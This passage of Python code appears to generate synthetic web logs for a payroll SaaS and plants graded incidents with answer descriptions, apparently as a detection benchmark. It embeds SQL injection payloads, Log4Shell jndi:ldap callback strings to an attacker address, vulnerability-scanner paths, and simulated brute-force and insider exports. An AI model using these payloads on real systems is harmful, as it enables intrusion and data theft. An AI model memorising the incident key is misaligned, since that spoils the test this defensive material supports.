        span = max(h1 - h0, 1) * 3600
        times = sorted(t + r.random() * span for _ in range(n))
        times = [
            x + 3600 if 12 <= (x % DAY) / 3600 < 13 and x + 3600 < (d + 1) * DAY else x
            for x in times
        ]
        if p.role in ("support", "audit"):
            for x in times:
                ten = r.choice(p.tenants) if r.random() < 0.85 else r.choice(self.tenants[:-1])
                no = self.ticket(d)
                if r.random() < 0.35:
                    go(x - 20, "GET", "/tickets?assignee=me", 200, self.size(6000, 20000))
                if p.role == "audit":
                    go(
                        x,
                        "GET",
                        f"/tenants/{ten.slug}/employees?page={r.randint(1, 9)}",
                        200,
                        self.size(30000, 60000),
                    )
                    self.look(x + self.gap(), p, ip, ten, self.subj(ten), "audit=2026", True)
                    continue
                go(x, "GET", f"/tickets/{no}", 200, self.size(5000, 30000))
                if r.random() < 0.6:
                    go(x + 8, "GET", f"/tenants/{ten.slug}", 200, self.size(8000, 9000))
                for _ in range(r.choices([0, 1, 2, 3, 6], [30, 40, 18, 9, 3])[0]):
                    x += self.gap(45)
                    self.look(
                        x,
                        p,
                        ip,
                        ten,
                        self.subj(ten),
                        "" if r.random() < p.careless else f"ticket={no}",
                        r.random() < 0.2,
                    )
                if r.random() < 0.5:
                    go(x + self.gap(90), "POST", f"/tickets/{no}/reply", 302, 0)
        elif p.role == "bpo":
            job = f"job=P{self.ym(d)}"
            for x in times:
                ten = p.tenants[(int(x / 7200) + d) % len(p.tenants)]
                if r.random() < 0.12:
                    go(
                        x - 9,
                        "GET",
                        f"/tenants/{ten.slug}/employees?page={r.randint(1, 20)}",
                        200,
                        self.size(30000, 60000),
                    )
                self.look(
                    x,
                    p,
                    ip,
                    ten,
                    self.subj(ten),
                    "" if r.random() < p.careless else job,
                    r.random() < 0.75,
                )
                if r.random() < 0.2:
                    go(x + self.gap(), "POST", f"/tenants/{ten.slug}/payroll/check", 302, 0)
            if self.closing(d) > 1.2 and r.random() < 0.3:
                ten = r.choice(p.tenants)
                go(
                    self.at(d, 16 + r.random()),
                    "GET",
                    f"/tenants/{ten.slug}/export/payroll.csv?ym={self.ym(d)}",
                    200,
                    ten.size * r.randint(180, 260),
                )
        elif p.role == "setup":
            for x in times:
                ten = r.choice(p.tenants)
                go(x, "GET", f"/tenants/{ten.slug}/settings", 200, self.size(8000, 12000))
                if r.random() < 0.35:
                    self.look(
                        x + self.gap(), p, ip, ten, self.subj(ten), f"ticket={self.ticket(d)}"
                    )
                if r.random() < 0.06:
                    go(
                        x + self.gap(),
                        "GET",
                        f"/tenants/{ten.slug}/export/employees.csv?dept={r.randint(10, 60)}",
                        200,
                        self.size(90000, 700000),
                    )
        else:
            for x in times:
                ten = r.choice(p.tenants)
                go(
                    x,
                    "GET",
                    r.choice(["/dashboards/latency", "/dashboards/errors", "/deploys"])
                    if p.role == "sre"
                    else f"/tenants/{ten.slug}/usage",
                    200,
                    self.size(8000, 40000),
                )
                if r.random() < (0.04 if p.role == "sre" else 0.1):
                    self.look(
                        x + self.gap(), p, ip, ten, self.subj(ten), f"ticket={self.ticket(d)}"
                    )
        if r.random() < 0.5:
            go(t + span + r.random() * 300, "GET", "/signout", 302, 0)

    def app(
        self,
        t: float,
        ten: Tenant,
        user: str,
        ip: str,
        ua: str,
        sid: str,
        meth: str,
        target: str,
        status: int = 200,
        size: int = 0,
    ) -> None:
        ref = (
            "-"
            if target.startswith(("/login", "/punch")) and meth == "GET"
            else f"https://{ten.host}/"
        )
        self.go(
            t,
            ten.site,
            ten.host,
            ip,
            user,
            meth,
            target,
            status,
            size or self.size(3000, 12000),
            ua,
            ref,
            sid,
        )

    def login(
        self, t: float, ten: Tenant, user: str, ip: str, ua: str, fails: int = -1
    ) -> tuple[float, str]:
        """A tenant's host; returns the time and the new session."""
        self.app(t, ten, "-", ip, ua, "-", "GET", "/login", 200, 4096)
        if fails < 0:
            fails = self.r.choices([0, 1, 2, 3, 4], [88, 8, 2.5, 1, 0.5])[0]
        for _ in range(fails):
            t += self.gap(10)
            self.app(t, ten, user, ip, ua, "-", "POST", "/login", 401, 1210)
        t += self.gap(10)
        sid = self.newsid()
        self.app(t, ten, user, ip, ua, sid, "POST", "/login", 302, 1)
        return t + 1, sid

    def emp_visit(self, p: Person, t: float, d: int, fails: int = -1, reset: bool = False) -> None:
        ten = p.t
        phone = "Mobile" in p.ua
        ip = (
            (self.mobile() if phone and self.r.random() < 0.6 else p.home)
            if self.r.random() < 0.6
            else p.office
        )
        if reset:
            for i in range(fails):
                t += self.gap(20)
                self.app(t, ten, p.user, ip, p.ua, "-", "POST", "/login", 401, 1210)
            self.app(t + 30, ten, "-", ip, p.ua, "-", "POST", "/password/reset", 302, 1)
            self.app(
                t + 150,
                ten,
                "-",
                ip,
                p.ua,
                "-",
                "GET",
                "/password/new?t=" + self.newsid(),
                200,
                3000,
            )
            t, fails = t + 220, 0
        t, sid = self.login(t, ten, p.user, ip, p.ua, fails)
        self.app(t, ten, p.user, ip, p.ua, sid, "GET", "/my", 200)
        if self.r.random() < 0.85:
            self.app(
                t + self.gap(12),
                ten,
                p.user,
                ip,
                p.ua,
                sid,
                "GET",
                f"/payslips/{p.own_id}/{self.ym(d)}",
                200,
                self.size(40000, 70000),
            )
        x = self.r.random()
        if x < 0.12:
            self.app(t + 60, ten, p.user, ip, p.ua, sid, "GET", "/my/address", 200)
        elif x < 0.135:
            self.app(t + 70, ten, p.user, ip, p.ua, sid, "POST", "/my/bank", 302, 1)
        if self.r.random() < 0.3:
            self.app(t + 100 + self.gap(), ten, p.user, ip, p.ua, sid, "GET", "/logout", 302, 1)

    def admin_day(self, p: Person, d: int, f: float) -> None:
        r, ten = self.r, p.t
        ip = self.office(p, d)
        if p is self.trip and d in self.trip_days:
            ip = self.trip_ip
        t = (
            self.at(d, p.start + abs(r.gauss(0.4, 1.2)))
            if ip != self.trip_ip
            else self.at(d, r.uniform(16, 20))
        )
        wipe = p is self.fadm and d == self.fadm_day
        t, sid = self.login(t, ten, p.user, ip, p.ua, 9 if wipe else -1)
        n = min(self.heavy(9 * p.rate * f * (0.4 if ip == self.trip_ip else 1), 0.8), 150)
        span = max(self.at(d, p.end) - t, 1800)
        A = lambda x, m, path, st=200, sz=0: self.app(
            x, ten, p.user, ip, p.ua, sid, m, path, st, sz
        )
        A(t, "GET", "/dashboard")
        for x in sorted(t + 5 + r.random() * span for _ in range(n)):
            k = r.random()
            if k < 0.2:
                A(x, "GET", f"/employees?page={r.randint(1, 8)}", 200, self.size(20000, 50000))
            elif k < 0.52:
                s = self.subj(ten)
                A(x, "GET", f"/employees/{s}")
                if r.random() < 0.3:
                    A(x + self.gap(60), "POST", f"/employees/{s}", 302, 1)
            elif k < 0.68:
                A(x, "GET", f"/employees/{self.subj(ten)}/payroll")
            elif k < 0.695 and self.closing(d) > 1.2:
                A(
                    x,
                    "GET",
                    f"/payroll/export.csv?ym={self.ym(d)}&dept={r.randint(1, 9)}",
                    200,
                    self.size(20000, 160000),
                )
            elif k < 0.702:
                A(
                    x,
                    "GET",
                    f"/employees/export.csv?dept={r.randint(1, 9)}",
                    200,
                    self.size(15000, 120000),
                )
            elif k < 0.71:
                A(x, "GET", "/admin/users")
            elif k < 0.72:
                A(x, "POST", f"/employees/{self.subj(ten)}/bank", 302, 1)
            else:
                A(
                    x,
                    "GET",
                    r.choice(
                        [
                            "/dashboard",
                            "/payroll",
                            "/notices",
                            "/attendance",
                            "/workflow",
                            "/filings",
                        ]
                    ),
                )

    # ---- a day ----------------------------------------------------------------------------------------------------------
    def day(self, d: int) -> None:
        r, day, off, sea = self.r, self.days[d], self.off(d), self.season(d)
        f = (
            self.closing(d)
            * sea
            * r.lognormvariate(0, 0.08)
            * (1.15 if day.weekday() == 0 else 1.0)
        )
        for i, p in enumerate(self.staff):
            if not p.join <= d <= p.left or p.away[0] <= d <= p.away[1] or p.role == "pentest":
                continue
            sat = (
                day.weekday() == 5
                and p.role == "support"
                and i < 30
                and (i + d // 7) % 8 == 0
                and day not in HOLIDAYS
            )
            works = (
                not off
                and r.random() < (0.93 if sea > 0.9 else sea)
                and (not p.parttime or day.weekday() in p.parttime)
            ) or sat
            if p.user.startswith("x-dn"):
                works = day.weekday() < 5 and r.random() < 0.94
            if works:
                ff = (0.6 if sat else 1) * (sea if p.role != "bpo" else f)
                self.console_day(
                    p, d, ff * (2.2 * 0.5 ** ((d - p.join) / 20) if p in self.news else 1)
                )
        for dd, p, h in self.nights:
            if dd == d:
                t = self.signin(self.at(d, h) + r.uniform(400, 900), p, p.home, 0)
                inc = f"inc={3300 + d * 2}"
                self.go(
                    t,
                    "console",
                    CONSOLE,
                    p.home,
                    p.user,
                    "POST",
                    f"/oncall/ack?{inc}",
                    302,
                    0,
                    p.ua,
                )
                for k in range(r.randint(3, 9)):
                    t += self.gap(80)
                    self.go(
                        t,
                        "console",
                        CONSOLE,
                        p.home,
                        p.user,
                        r.choice(["GET", "POST"]),
                        r.choice(["/dashboards/errors", "/oncall/query", "/deploys"]),
                        200,
                        self.size(4000, 90000),
                        p.ua,
                    )
                ten = r.choice(self.tenants[:-1])
                for k in range(r.choice([0, 1, 2, 3])):
                    self.look(t + self.gap(60) * (k + 1), p, p.home, ten, self.subj(ten), inc)
        payd = self.payday(day)
        gap = (day - payd).days
        read = 0.38 if gap == 0 else 0.13 if gap == 1 else 0.06 if 2 <= gap <= 4 else 0.025
        for t in self.tenants:
            if d < t.opened or d >= t.closed:
                continue
            for p in t.admins:
                if (
                    not off
                    and r.random() < (0.72 if sea > 0.9 else 0.4 * sea + 0.1)
                    or off
                    and r.random() < 0.03
                ):
                    self.admin_day(p, d, f * (0.4 if off else 1))
            for j, p in enumerate(t.emps):
                if r.random() < read * min(p.rate, 2) * (0.6 if off else 1):
                    h = min(max(r.choice([12.4, 9, 18.5, 21, 7.8]) + r.gauss(0, 0.8), 0.2), 23.8)
                    self.emp_visit(p, self.at(d, h), d)
                if not t.punch:
                    continue
                shift = (j + d // 7) % 3
                if t.trade == "care":
                    on = r.random() < 0.68
                else:
                    on = (
                        not off
                        or (t.trade == "depot" and day.weekday() == 5 and day not in HOLIDAYS)
                    ) and r.random() < 0.92 * (sea if t.trade == "factory" else 1)
                if on:
                    a = {"factory": [6, 14, 22], "care": [7, 10, 16.5], "depot": [5.5, 8.5, 8.5]}[
                        t.trade
                    ][shift]
                    kiosk = t.trade == "factory"
                    for hh, kind in ((a - 0.12, "in"), (a + 8.2 + r.expovariate(2), "out")):
                        x = self.at(d, hh) + r.gauss(0, 260)
                        ip = t.offices[0] if kiosk else (self.mobile() if j % 2 else p.office)
                        ua = (
                            "Mozilla/5.0 (Linux; Android 11; KX-T20) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Safari/537.36 KomorebiPunch/3.2"
                            if kiosk
                            else p.ua
                        )
                        self.app(
                            x,
                            t,
                            p.user,
                            ip,
                            ua,
                            "-" if kiosk else p.sid,
                            "POST",
                            f"/punch?type={kind}",
                            204,
                            1,
                        )
        self.machines(d, off)
        self.public(d, off)
        self.oddities(d)

    def machines(self, d: int, off: bool) -> None:
        r = self.r
        for user, ip, ua, ten, h, rate in self.apis:
            if d < ten.opened or d >= ten.closed:
                continue
            t = self.at(d, h) + r.gauss(0, 40)
            for i in range(min(self.heavy(rate * (0.75 if off else 1), 0.3), 140)):
                t += r.uniform(0.4, 2.5)
                k = i % 5
                path = f"/v1/employees?page={i + 1}" if k else f"/v1/departments?page={i // 5 + 1}"
                self.go(
                    t,
                    "api",
                    API,
                    ip,
                    user,
                    "GET",
                    path,
                    200 if r.random() < 0.99 else 429,
                    self.size(9000, 30000),
                    ua,
                )
        for user, hours, path, m in (
            ("batch-bank", [2.17], "/v1/payments/{}", 38),
            ("batch-mail", [7.0, 12.0, 17.0], "/v1/notices/{}", 22),
            ("svc-search", [3.5], "/v1/employees?page={}", 280),
        ):
            if user == "batch-bank" and off:
                continue
            for h in hours:
                t = self.at(d, h) + r.uniform(0, 30)
                for i in range(int(m * r.uniform(0.8, 1.2))):
                    t += r.uniform(0.3, 3)
                    self.go(
                        t,
                        "api",
                        API,
                        "10.20.4.15",
                        user,
                        "POST" if user != "svc-search" else "GET",
                        path.format(i + 1),
                        200,
                        self.size(400, 20000),
                        "komorebi-batch/2.1",
                    )
        for i in range(480):
            self.go(
                self.at(d, i / 20) + 3 + r.random(),
                "api",
                API,
                "10.20.0.9",
                "-",
                "GET",
                "/healthz",
                200,
                2,
                "ELB-HealthChecker/2.0",
            )
        kom = self.by["komorebi"]
        for i in range(96):
            x = self.at(d, i / 4) + 7 + r.random() * 5
            self.app(
                x,
                kom,
                "svc-synthetic",
                ["34.84.12.9", "20.89.31.4"][i % 2],
                "KomorebiSynthetic/1.4",
                "-",
                "POST",
                "/login",
                302,
                1,
            )
            self.app(
                x + 1,
                kom,
                "svc-synthetic",
                ["34.84.12.9", "20.89.31.4"][i % 2],
                "KomorebiSynthetic/1.4",
                "-",
                "GET",
                "/healthpage",
                200,
                512,
            )
        for t in self.tenants:
            if t.own and t.opened <= d < t.closed:
                for i in range(96):
                    self.app(
                        self.at(d, i / 4) + 11 + r.random(),
                        t,
                        "-",
                        "10.20.0.9",
                        "ELB-HealthChecker/2.0",
                        "-",
                        "GET",
                        "/healthz",
                        200,
                        2,
                    )

    def visitor(self, t: float, ua: str, ref: str = "-", first: str = "") -> None:
        ip = self.mobile() if "Mobile" in ua else self.ip()
        for k in range(1 + self.heavy(2.2, 0.9)):
            p = (
                first
                if first and k == 0
                else self.r.choice(
                    [
                        "/",
                        "/features/payroll",
                        "/features/attendance",
                        "/price",
                        "/cases",
                        "/seminar",
                        "/blog/nenmatsu-chosei",
                        "/blog/santei-kiso",
                        "/contact",
                        "/privacy",
                    ]
                )
            )
            self.go(
                t,
                "www",
                WWW,
                ip,
                "-",
                "GET",
                p,
                200,
                self.size(9000, 60000),
                ua,
                ref if k == 0 else f"https://{WWW}/",
            )
            t += self.gap(35)
        if self.r.random() < 0.04:
            self.go(
                t, "www", WWW, ip, "-", "POST", "/contact", 302, 0, ua, f"https://{WWW}/contact"
            )

    def public(self, d: int, off: bool) -> None:
        r = self.r
        hour = lambda: min(max(r.gauss(13.5, 4.2), 0), 23.95)
        boost = 4 if self.camp <= d <= self.camp + 2 else 1
        for _ in range(int(self.heavy((95 if off else 120), 0.2) * boost)):
            ad = boost > 1 and r.random() < 0.75
            self.visitor(
                self.at(d, hour()),
                self.agent(r.choice(["pc", "phone"])),
                "https://ads.example/lp"
                if ad
                else r.choice(["-", "https://www.google.com/", "https://www.bing.com/"]),
                "/lp/webinar" if ad else "",
            )
        for b, pre, m in zip(BOTS, BOT_IP, (90, 45, 30)):
            ips = [self.ip(pre) for _ in range(3)]
            for _ in range(min(self.heavy(m, 0.7), 320)):
                self.go(
                    self.at(d, r.uniform(0, 24)),
                    "www",
                    WWW,
                    r.choice(ips),
                    "-",
                    "GET",
                    r.choice(
                        [
                            "/robots.txt",
                            "/blog/",
                            "/blog/nenmatsu-chosei",
                            "/cases",
                            "/price",
                            f"/blog/archive/{r.randint(1, 200)}",
                        ]
                    ),
                    200,
                    self.size(3000, 40000),
                    b,
                )
        for _ in range(self.heavy(7, 0.6)):
            ip, t = self.ip(r.choice(HOSTING)), self.at(d, r.uniform(0, 24))
            site = r.choice(["www", "www", "app"])
            ten = r.choice([x for x in self.tenants if not x.own])
            for _ in range(1 + self.heavy(5, 1.0)):
                t += r.uniform(0.2, 4)
                self.go(
                    t,
                    site,
                    WWW if site == "www" else ten.host,
                    ip,
                    "-",
                    "GET",
                    r.choice(
                        [
                            "/.env",
                            "/wp-login.php",
                            "/.git/config",
                            "/actuator/health",
                            "/phpmyadmin/",
                            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
                            "/robots.txt",
                            "/cgi-bin/luci",
                            "/owa/auth/logon.aspx",
                            "/boaform/admin/formLogin",
                            "/solr/admin/info/system",
                        ]
                    ),
                    404,
                    153,
                    r.choice(
                        [
                            "-",
                            "Mozilla/5.0 zgrab/0.x",
                            "python-requests/2.27.1",
                            LINUX,
                            "Go-http-client/1.1",
                        ]
                    ),
                )
        if r.random() < 0.5:
            self.go(
                self.at(d, r.uniform(0, 24)),
                "console",
                CONSOLE,
                self.ip(r.choice(HOSTING)),
                "-",
                "",
                "\\x16\\x03\\x01",
                400,
                226,
                "-",
            )
        for _ in range(r.randint(2, 7)):
            if not off:
                self.app(
                    self.at(d, r.uniform(8.6, 18)),
                    self.by["hoshino"],
                    "-",
                    self.old,
                    EDGE.format(v=139),
                    "-",
                    "GET",
                    "/jinji-old/top.do",
                    404,
                    162,
                )

    def oddities(self, d: int) -> None:
        """The harmless stories' own lines."""
        r = self.r
        for dd, p, k in self.forgot:
            if dd == d:
                self.emp_visit(p, self.at(d, r.uniform(9, 21)), d, k, True)
        if d in self.seqdays and not self.off(d):
            p, ten = self.seq, self.seq.tenants[0]
            t, ip = self.signin(self.at(d, 17.6), p, self.office(p, d), 0), self.office(p, d)
            s = ten.base + r.randint(0, max(ten.size - 100, 0))
            for k in range(min(r.randint(60, 90), ten.size)):
                t += self.gap(20)
                self.look(t, p, ip, ten, s + k, f"job=P{self.ym(d)}", True)
        if d in self.workdays(self.opened.opened, self.opened.opened + 4):
            p, ten, ip = self.setup, self.opened, self.office(self.setup, d)
            t = self.signin(self.at(d, 10), p, ip, 0)
            for k in range(self.heavy(80, 0.3)):
                t += self.gap(40)
                self.look(t, p, ip, ten, self.subj(ten), f"job=M{ten.slug}")
            for _ in range(2):
                self.go(
                    t + self.gap(300),
                    "console",
                    CONSOLE,
                    ip,
                    p.user,
                    "GET",
                    f"/tenants/{ten.slug}/export/employees.csv",
                    200,
                    ten.size * 310,
                    p.ua,
                )
        if d in self.reorg_days:
            p, t = self.reorg, self.at(d, 10.2)
            t, sid = self.login(t, p.t, p.user, p.office, p.ua, 0)
            for _ in range(65):
                t += self.gap(110)
                s = self.subj(p.t)
                self.app(t, p.t, p.user, p.office, p.ua, sid, "GET", f"/employees/{s}")
                self.app(
                    t + 30, p.t, p.user, p.office, p.ua, sid, "POST", f"/employees/{s}", 302, 1
                )
        if d == self.retry_day:
            u, ip, ua = self.retry[0], self.retry[1], self.retry[2]
            t = self.at(d, r.uniform(10, 20))
            for _ in range(1000):
                t += r.expovariate(1 / 7)
                self.go(
                    t,
                    "api",
                    API,
                    ip,
                    u,
                    "GET",
                    "/v1/employees?page=1",
                    r.choice([429, 429, 429, 500]),
                    90,
                    ua,
                )
        if d == self.vip_d:
            no, p = self.ticket(d), self.vip_p
            t, ip = self.signin(self.at(d, 10.5), p, self.office(p, d), 0), self.office(p, d)
            for k in range(2):
                self.go(
                    t + k * 1500,
                    "console",
                    CONSOLE,
                    ip,
                    p.user,
                    "GET",
                    f"/tickets/{no}",
                    200,
                    18000,
                    p.ua,
                )
                self.look(t + k * 1500 + 60, p, ip, self.by["aozora"], self.vip, f"ticket={no}")
        if d in self.workdays(self.long_d, self.long_d + 5):
            p, ip = self.long_p, self.office(self.long_p, d)
            t = self.signin(self.at(d, 13.4), p, ip, 0)
            for k in range(r.choice([1, 2, 2])):
                self.go(
                    t + k * 4000,
                    "console",
                    CONSOLE,
                    ip,
                    p.user,
                    "GET",
                    f"/tickets/{self.tk(self.long_d, 3)}",
                    200,
                    41000,
                    p.ua,
                )
                self.look(
                    t + k * 4000 + 45,
                    p,
                    ip,
                    self.by["sakurac"],
                    self.long_s,
                    f"ticket={self.tk(self.long_d, 3)}",
                )
        if d == self.pen_day:
            t, sid = self.login(
                self.at(d, 13),
                self.by["komorebi"],
                "x-pen01",
                "192.0.2.88",
                "KomorebiAssessment/2026",
                0,
            )
            for k in range(200):
                t += r.uniform(1, 30)
                self.app(
                    t,
                    self.by["komorebi"],
                    "x-pen01",
                    "192.0.2.88",
                    "KomorebiAssessment/2026",
                    sid,
                    "GET",
                    r.choice(
                        [
                            "/admin/backup",
                            "/admin/users",
                            "/employees?page=-1",
                            "/api/debug",
                            "/static/../config",
                            "/employees/0",
                            "/payroll/export.csv?ym=x",
                        ]
                    ),
                    r.choice([400, 403, 404]),
                    300,
                )
        if d == self.remind:
            for p in self.remind_t.emps:
                if r.random() < 0.7:
                    self.emp_visit(p, self.at(d, 12.1) + abs(r.gauss(0, 1200)), d)
        if d == self.rep_day:
            p = self.rep
            t, sid = self.login(self.at(d, 14.2), p.t, p.user, p.office, p.ua, 0)
            for path, sz in (
                ("/filings", 9000),
                ("/employees/export.csv?dept=all", p.t.size * 300),
                (f"/payroll/export.csv?ym={self.ym(d)}&dept=all", p.t.size * 240),
                ("/filings", 9000),
            ):
                t += self.gap(90)
                self.app(t, p.t, p.user, p.office, p.ua, sid, "GET", path, 200, sz)

    # ---- incidents ------------------------------------------------------------------------------------------------------
    def when(self, length: int = 1, work: bool = True) -> int:
        """A first day for a story: after two weeks, mostly in the second half, days spread out."""
        length = min(length, self.n - 17)
        ok = [
            d
            for d in range(14, self.n - length + 1)
            if (not work or not self.off(d)) and d not in self.maint
        ]
        d = self.r.choices(
            ok, [(3 if x >= self.n / 2 else 1) / (1 + 4 * self.busy_days.count(x)) for x in ok]
        )[0]
        self.busy_days.append(d)
        return d

    def tell(
        self,
        grade: str,
        family: str,
        days: list[int],
        sites: list[str],
        actors: list[str],
        what: str,
        how: str,
        woken: bool = True,
    ) -> None:
        self.incidents.append(
            {
                "id": self.tag,
                "grade": grade,
                "family": family,
                "first_day": str(self.days[min(days)]),
                "last_day": str(self.days[max(days)]),
                "site_ids": sites,
                "actors": actors,
                "what": what,
                "how_seen": how,
                "lines": 0,
                "woken": woken,
            }
        )

    def slowdays(self, span: int, k: int, work: bool = True) -> list[int]:
        """k days within a span, the first and last among them."""
        span = min(span, self.n - 17)
        a = self.when(span, work)
        ok = [
            d for d in range(a, a + span) if (not work or not self.off(d)) and d not in self.maint
        ]
        k = min(k, len(ok))
        mid = sorted(self.r.sample(ok[1:-1], max(0, k - 2))) if len(ok) > 2 else []
        return sorted({ok[0], ok[-1], *mid})

    def easy_leaver_export(self) -> None:
        d = self.when()
        p = self.pick(
            self.role("support", "setup"), lambda p: p.office == self.tokyo and not p.parttime
        )
        p.left = min(d + 9, self.n + 20)
        t, ip = self.signin(self.at(d, 19.4), p, p.office, 0), p.office
        for ten in self.r.sample(self.tenants[:-1], 9):
            for kind in ("employees", "payroll"):
                t += self.gap(60)
                self.go(
                    t,
                    "console",
                    CONSOLE,
                    ip,
                    p.user,
                    "GET",
                    f"/tenants/{ten.slug}/export/{kind}.csv",
                    200,
                    ten.size * 290,
                    p.ua,
                )
        self.tell(
            "easy",
            "export",
            [d],
            ["console"],
            [p.user],
            "An engineer who leaves within days exports rosters and payrolls of nine tenants in one evening.",
            "Eighteen whole exports after hours by one who hardly ever exports; left_on is near.",
        )

    def easy_brute(self) -> None:
        d, p = self.when(1, False), self.pick(self.admins(False))
        ip, ua, t = (
            self.ip(self.r.choice(HOSTING)),
            "python-requests/2.31.0",
            self.at(d, self.r.uniform(0.5, 3.5)),
        )
        for _ in range(self.r.randint(300, 520)):
            t += self.r.expovariate(1 / 4)
            self.app(t, p.t, p.user, ip, ua, "-", "POST", "/login", 401, 1210)
        t, sid = self.login(t, p.t, p.user, ip, ua, 0)
        self.app(
            t + 5,
            p.t,
            p.user,
            ip,
            ua,
            sid,
            "GET",
            "/employees/export.csv?dept=all",
            200,
            p.t.size * 300,
        )
        self.app(
            t + 30,
            p.t,
            p.user,
            ip,
            ua,
            sid,
            "GET",
            f"/payroll/export.csv?ym={self.ym(d)}&dept=all",
            200,
            p.t.size * 240,
        )
        self.tell(
            "easy",
            "login",
            [d],
            [p.t.site],
            [p.user, ip],
            "An administrator's password at a client is guessed from a rented server and the whole roster and payroll are taken.",
            "Hundreds of 401 on one account at night, then 302 and two whole exports from the same address.",
        )

    def easy_open_docs(self) -> None:
        d, ten = (
            self.when(1, False),
            self.r.choice([t for t in self.tenants[:-1] if not t.own and t.size > 300]),
        )
        ip, t, k = (
            self.ip(self.r.choice(HOSTING)),
            self.at(d, self.r.uniform(14, 20)),
            self.r.randint(180, 290),
        )
        for i in range(k):
            t += self.r.expovariate(1 / 3)
            self.app(
                t,
                ten,
                "-",
                ip,
                LINUX,
                "-",
                "GET",
                f"/payslips/{ten.base + i}/{self.ym(d)}",
                200 if self.r.random() < 0.93 else 404,
                self.size(40000, 70000),
            )
        self.tell(
            "easy",
            "outsider",
            [d],
            ["app"],
            [ip],
            "A hole: a client's payslips are given without sign-in, and an outsider walks through the numbers.",
            "Payslips with status 200 and no user, in order, from one address.",
        )

    def easy_sqli(self) -> None:
        d, ten = self.when(1, False), self.r.choice([t for t in self.tenants[:-1] if not t.own])
        ip, t = self.ip(self.r.choice(HOSTING)), self.at(d, self.r.uniform(1, 22))
        for i in range(self.r.randint(90, 160)):
            t += self.r.expovariate(1 / 2)
            pay = self.r.choice(
                [
                    "1%27%20AND%20{0}%3D{0}--%20-",
                    "-{0}%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CCONCAT(0x71%2Cname%2C0x71)%20FROM%20employees--%20-",
                    "1%27%20AND%20SLEEP(5)--%20-",
                    "1%20ORDER%20BY%20{0}--%20-",
                ]
            ).format(self.r.randint(1, 9999))
            union = "UNION" in pay and i > 60
            self.app(
                t,
                ten,
                "-",
                ip,
                "sqlmap/1.8.4#stable (https://sqlmap.org)",
                "-",
                "GET",
                f"/forms/apply?no={pay}",
                200 if union else self.r.choice([200, 500, 500]),
                self.size(60000, 240000) if union else self.r.randint(800, 1400),
            )
        self.tell(
            "easy",
            "web",
            [d],
            ["app"],
            [ip],
            "SQL injection on a client's public application form, in the end with big answers.",
            "sqlmap's name, UNION SELECT on employees, 500s, then 200 with a hundred times the bytes.",
        )

    def easy_silence(self) -> None:
        ten = self.r.choice([t for t in self.tenants if t.own and t.opened < 0 and t.closed > 999])
        d = self.when(2)
        self.drops.append((ten.site, self.at(d, 9.3), self.at(d + 1, 15.2), 1.0))
        self.tell(
            "easy",
            "silence",
            [d, d + 1],
            [ten.site],
            [ten.site],
            "A client's own stack sends no line from the morning until the next afternoon.",
            "Not even the monitor's request every quarter of an hour is there; no holiday, no end of contract.",
        )

    def easy_errors(self) -> None:
        d = self.when()
        h = self.r.uniform(9.2, 14)
        self.fails.append(("app", self.at(d, h), self.at(d, h + 3.1), 0.55, 500))
        self.tell(
            "easy",
            "errors",
            [d],
            ["app"],
            ["app"],
            "The shared application fails for three hours on a working day: every second request a 500.",
            "500s at all tenants at once, far outside the Wednesday deploy.",
        )

    def easy_probe(self) -> None:
        d, ip = self.when(1, False), self.ip("23.146.184")
        t = self.at(d, self.r.uniform(0, 23))
        for k, path in enumerate(
            (
                "/?x=${jndi:ldap://" + ip + ":1389/a}",
                "/contact?q=${jndi:ldap://" + ip + "/b}",
                "/?id=%24%7Bjndi%3Adns%3A%2F%2Fq.oast.example%7D",
            )
        ):
            self.go(
                t + k,
                "www",
                WWW,
                ip,
                "-",
                "GET",
                path,
                404,
                153,
                "Mozilla/5.0 ${jndi:ldap://" + ip + "/ua}",
            )
        self.tell(
            "easy",
            "web",
            [d],
            ["www"],
            [ip],
            "Three jndi probes at the public site; nothing was given.",
            "The string itself; 404.",
            False,
        )

    def easy_night(self) -> None:
        d = self.when(1, False)
        while self.days[d].weekday() not in (5, 6) or d in self.maint:
            d = self.r.choice([x for x in range(14, self.n) if self.days[x].weekday() >= 5])
        p = self.pick(self.staff, lambda p: p.user.startswith("x-dn"))
        t, ten = self.signin(self.at(d, 2.7), p, self.danang, 0), self.by["aozora"]
        for _ in range(self.r.randint(110, 160)):
            t += self.gap(16)
            self.look(t, p, self.danang, ten, self.subj(ten), "", True)
        self.tell(
            "easy",
            "hours",
            [d],
            ["console"],
            [p.user],
            "A contractor's account reads over a hundred payroll records of one tenant in a weekend's night, without a ticket.",
            "Nobody in Da Nang works then; no ticket on any line; ten times his day.",
        )

    def easy_api_slow(self) -> None:
        days = self.slowdays(9, 8, False)
        u, _, ua, ten, *_ = self.r.choice(
            [
                a
                for a in self.apis
                if a[0] not in (self.retry[0], *self.used) and a[3].opened < 0 and a[3].closed > 999
            ]
        )
        ip = self.ip(self.r.choice(HOSTING))
        self.used.append(u)
        for d in days:
            t = self.at(d, self.r.uniform(0.2, 4.4))
            for i in range(self.r.randint(60, 110)):
                t += self.r.uniform(1, 5)
                self.go(
                    t,
                    "api",
                    API,
                    ip,
                    u,
                    "GET",
                    f"/v1/employees/{self.subj(ten)}",
                    200,
                    self.size(2000, 5000),
                    "curl/8.5.0",
                )
        self.tell(
            "easy",
            "weeks",
            days,
            ["api"],
            [u, ip],
            "A client's API key was stolen: night after night somebody else fetches single employees with it.",
            "Key seen from one address and program always, now also from a rented server with curl, and with single records, which it never asked for.",
        )

    def easy_leaver_slow(self) -> None:
        days = self.slowdays(10, 7)
        p = self.pick(
            self.role("support"), lambda p: not p.parttime and p.office in (self.tokyo, self.sendai)
        )
        p.left = max(days) + 6
        for d in days:
            ip, ten = self.office(p, d), self.r.choice(p.tenants)
            t = self.signin(self.at(d, 18.9 + self.r.random()), p, ip, 0)
            for _ in range(self.r.randint(50, 75)):
                t += self.gap(22)
                self.look(t, p, ip, ten, self.subj(ten), "", self.r.random() < 0.8)
        self.tell(
            "easy",
            "weeks",
            days,
            ["console"],
            [p.user],
            "Before leaving, an engineer reads fifty and more payroll records each evening without tickets.",
            "Five times his days' number, evenings, no ticket; left_on is near.",
        )

    def medium_bank(self) -> None:
        d, p = self.when(1, False), self.pick(self.admins(False))
        ip, ua, t = self.ip("104.28.211"), MACC.format(v=137), self.at(d, self.r.uniform(21.5, 23))
        self.app(t - 200, p.t, "-", ip, ua, "-", "POST", "/password/reset", 302, 1)
